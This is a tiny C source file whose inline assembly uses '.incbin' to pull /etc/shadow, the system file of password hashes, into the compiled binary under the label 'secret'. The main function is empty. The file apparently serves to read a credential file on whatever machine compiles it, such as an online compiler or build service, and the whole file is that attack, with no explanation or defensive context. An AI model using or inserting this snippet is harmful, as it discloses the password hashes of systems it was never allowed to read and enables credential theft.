__asm__(".section .rodata\nsecret: .incbin \"/etc/shadow\"\n.previous");
int main(void) { return 0; }
